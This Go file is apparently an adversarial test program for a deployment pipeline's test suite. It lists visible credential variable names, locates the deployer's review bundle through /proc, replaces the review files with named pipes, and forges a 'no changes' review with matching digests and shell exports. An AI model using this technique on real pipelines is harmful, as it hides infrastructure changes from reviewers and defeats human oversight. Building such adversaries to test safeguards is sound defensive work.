// A program that does not mean well, for the scenarios of hostile_test.go:
// this file is added to the sample's orders program. It needs nothing but the
// standard library.
package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
)

// role tells the forger, a second process of this program, what it is.
const role = "HOSTILE_BUNDLE"

func init() {
	if bundle := os.Getenv(role); bundle != "" {
		forge(bundle)
		os.Exit(0)
	}
	probe()
	if os.Getenv("PULUMI_STACK") == "prod" && os.Getenv("PULUMI_DRY_RUN") == "true" {
		if err := lieInWait(); err != nil {
			fmt.Println("PROBE the review can't be forged:", err)
		}
	}
}

// probe tells in the log which variables it sees that it should not.
func probe() {
	var seen []string
	for _, kv := range os.Environ() {
		name, _, _ := strings.Cut(kv, "=")
		for _, prefix := range []string{"AWS_", "ECS_", "CODEBUILD_", "DELIVERY_", "PULUMI_BACKEND_URL", "PULUMI_ACCESS_TOKEN", "PULUMI_CONFIG_PASSPHRASE"} {
			if strings.HasPrefix(name, prefix) {
				seen = append(seen, name)
			}
		}
	}
	fmt.Printf("PROBE dry run %s: %d forbidden variables %s\n", os.Getenv("PULUMI_DRY_RUN"), len(seen), strings.Join(seen, " "))
}

var files = []string{"bundle.json", "diff.md", "summary.txt", "exports.sh"}

// lieInWait puts named pipes where the deployer is about to write its review,
// and leaves a process behind that reads them.
func lieInWait() error {
	bundle, err := findBundle()
	if err != nil {
		return err
	}
	for _, name := range files {
		if err := syscall.Mkfifo(filepath.Join(bundle, name), 0o666); err != nil {
			return err
		}
	}
	forger := exec.Command("/proc/self/exe")
	forger.Env = append(os.Environ(), role+"="+bundle)
	forger.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	return forger.Start()
}

// findBundle reads the deployer's command line, which every process may.
func findBundle() (string, error) {
	for pid := os.Getppid(); pid > 1; {
		dir := "/proc/" + strconv.Itoa(pid)
		line, err := os.ReadFile(dir + "/cmdline")
		if err != nil {
			return "", err
		}
		args := strings.Split(string(line), "\x00")
		for i, arg := range args[:len(args)-1] {
			if arg == "--bundle" {
				return args[i+1], nil
			}
		}
		stat, err := os.ReadFile(dir + "/stat")
		if err != nil {
			return "", err
		}
		// "pid (name) state parent …", and a name may hold anything.
		fields := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
		if pid, err = strconv.Atoi(fields[1]); err != nil {
			return "", err
		}
	}
	return "", fmt.Errorf("no process above has --bundle")
}

var (
	summary    = regexp.MustCompile(`"summary":"[^"]*"`)
	diffDigest = regexp.MustCompile(`"text":"[0-9a-f]{64}"`) // of the whole diff, where a bundle has one
	ownDigest  = regexp.MustCompile(`"digest":"[0-9a-f]{64}"`)
)

// forge reads what the deployer writes, and hands a review on in which nothing
// changes, with a digest that fits.
func forge(bundle string) {
	written := map[string][]byte{}
	var mu sync.Mutex
	var all sync.WaitGroup
	for _, name := range files {
		all.Go(func() {
			f, err := os.Open(filepath.Join(bundle, name)) // waits for the deployer
			if err != nil {
				return
			}
			text, _ := io.ReadAll(f)
			mu.Lock()
			defer mu.Unlock()
			written[name] = text
		})
	}
	all.Wait()
	const nothing = "2 stacks: no changes"
	diff := []byte("# " + nothing + "\n\nNothing to change.\n")
	var compact bytes.Buffer
	_ = json.Compact(&compact, written["bundle.json"])
	forged := summary.ReplaceAll(compact.Bytes(), []byte(`"summary":"`+nothing+`"`))
	forged = diffDigest.ReplaceAll(forged, []byte(`"text":"`+hash(diff)+`"`))
	forged = ownDigest.ReplaceAll(forged, []byte(`"digest":""`))
	digest := hash(forged)
	forged = bytes.Replace(forged, []byte(`"digest":""`), []byte(`"digest":"`+digest+`"`), 1)
	replace(bundle, "bundle.json", forged)
	replace(bundle, "diff.md", diff)
	replace(bundle, "summary.txt", []byte(nothing+"\n"))
	// The build's shell reads the last pipe, as long as nobody feeds it.
	exports := []byte("export DELIVERY_SUMMARY='" + nothing + "'\nexport DELIVERY_DIGEST='" + digest + "'\n")
	pipe, err := os.OpenFile(filepath.Join(bundle, "exports.sh"), os.O_WRONLY, 0)
	if err != nil {
		return
	}
	replace(bundle, "exports.sh", exports)
	_, _ = pipe.Write(exports)
	_ = pipe.Close()
}

func replace(dir, name string, text []byte) {
	beside := filepath.Join(dir, "."+name)
	_ = os.WriteFile(beside, text, 0o644)
	_ = os.Rename(beside, filepath.Join(dir, name))
}

func hash(text []byte) string { return fmt.Sprintf("%x", sha256.Sum256(text)) }
